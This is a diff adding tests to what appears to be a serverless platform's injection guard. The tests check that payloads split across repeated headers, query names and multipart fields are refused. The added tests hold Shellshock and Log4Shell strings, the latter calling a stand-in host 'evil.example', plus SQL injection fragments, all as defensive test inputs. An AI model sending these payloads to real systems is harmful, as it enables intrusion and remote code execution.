@@ -13,8 +13,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
+import { request as httpRequest } from 'node:http';
 import type { DeadLetter } from '../../src/store/store.ts';
-import { assertError, manifest, startTestPlatform, until, type Answer, type CreatedKey, type RequestOptions, type TestPlatform } from '../support/platform.ts';
+import { answerOf as answerOfResponse, assertError, manifest, startTestPlatform, until, type Answer, type CreatedKey, type RequestOptions, type TestPlatform } from '../support/platform.ts';
 
 /** Logs each call, so the function's logs list every request that reached it. */
 const recorder = `
@@ -202,6 +203,69 @@ test('every class published on the bus is dead-lettered by the injection guard; 
   });
   assert.ok(logs, 'the control message reached the consumer');
   for (const { messageId } of published) assert.ok(!logs.includes(`got ${messageId}`), `message ${messageId} reached the consumer`);
+});
+
+type Repeated = Record<string, string | string[]>;
+
+/** A GET whose headers may repeat (an array value is sent as one header line per value), as fetch cannot. */
+function getWithRepeatedHeaders(path: string, headers: Repeated): Promise<{ status: number; json: any; requestId: string }> {
+  // Node's raw form, [name, value, name, value, …], sends every line as written.
+  const lines = Object.entries({ host: new URL(tp.url).host, authorization: `Bearer ${key.key}`, ...headers }).flatMap(([name, v]) => (Array.isArray(v) ? v : [v]).flatMap((one) => [name, one]));
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(new URL(path, tp.url), { headers: lines, agent: false }, (res) => {
+      let text = '';
+      res.on('data', (d: Buffer) => (text += d.toString('utf8')));
+      res.on('end', () => resolve({ status: res.statusCode ?? 0, json: JSON.parse(text), requestId: String(res.headers['x-request-id']) }));
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+test('a payload in a repeated header or query name is refused: each value and the joined value the 2.0 event carries', async () => {
+  const attacks: Array<[field: string, path: string, headers: Repeated]> = [
+    // Node keeps only the first User-Agent (and Referer, From, …) in request.headers; the event gets all of them.
+    ['headers.user-agent', '/fn/inj-block', { 'user-agent': ['Mozilla/5.0', '() { :; }; /bin/bash -c "cat /etc/cnry14"'] }],
+    ['headers.referer', '/fn/inj-block', { referer: ['https://example.com/', '${jndi:ldap://evil.example/cnry15}'] }],
+    // Harmless one by one; the 2.0 event joins them into a' , sleep(5) , ' for an INSERT … VALUES ('…').
+    ['query.q', `/fn/inj-block?q=${encodeURIComponent("cnry16'")}&q=sleep(5)&q='`, {}],
+    ['headers.x-note', '/fn/inj-block', { 'x-note': ["cnry17'", 'sleep(5)', "'"] }],
+  ];
+  const refused: string[] = [];
+  for (const [field, path, headers] of attacks) {
+    const answer = await getWithRepeatedHeaders(path, headers);
+    assert.equal(answer.status, 400, `${field}: ${JSON.stringify(answer.json)}`);
+    assert.equal(answer.json.error.code, 'BWK_E_GUARD_INJECTION');
+    assert.equal(answer.json.error.message, `Input at ${field} was refused: it looks like an injection attempt`);
+    assert.ok(!JSON.stringify(answer.json).includes('cnry'), 'nothing of the payload comes back');
+    refused.push(answer.requestId);
+  }
+  const control = await getWithRepeatedHeaders('/fn/inj-block?tag=a&tag=b', { 'user-agent': ['Mozilla/5.0', 'curl/8.5'], 'x-note': ['one', 'two'] });
+  assert.equal(control.status, 200, JSON.stringify(control.json));
+  const ids = await servedIncluding('inj-block', control.requestId);
+  for (const id of refused) assert.ok(!ids.has(id), `request ${id} reached the handler`);
+});
+
+test('a multipart form with a binary file: its text fields are still inspected, the file itself is not', async () => {
+  // An image with bytes that are not UTF-8 (so the body as a whole is not), and a stretch that would read as SQL.
+  const image = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]), Buffer.from("' or 1=1--"), Buffer.from([0x00, 0xc3])]);
+  const form = (comment: string) => Buffer.concat([
+    Buffer.from(`--b0und\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${comment}\r\n`),
+    Buffer.from('--b0und\r\nContent-Disposition: form-data; name="photo"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n'),
+    image,
+    Buffer.from('\r\n--b0und--\r\n'),
+  ]);
+  const post = (comment: string) => tp.fetch('/fn/inj-block', {
+    method: 'POST', key: key.key, body: form(comment), headers: { 'content-type': 'multipart/form-data; boundary=b0und' },
+  });
+  const attack = await post("cnry18' OR '1'='1");
+  const refused = await answerOfResponse(attack);
+  assertError(refused, 400, 'BWK_E_GUARD_INJECTION', [...tp.secrets, 'cnry18']);
+  assert.equal(refused.json.error.message, 'Input at body was refused: it looks like an injection attempt');
+  const upload = await answerOfResponse(await post("Siobhán O'Brien's cat, 3 years old"));
+  assert.equal(upload.status, 200, upload.text);
+  const ids = await servedIncluding('inj-block', upload.requestId);
+  assert.ok(!ids.has(refused.requestId), 'the refused upload never reached the handler');
 });
 
 function assertNoCanary(text: string): void {
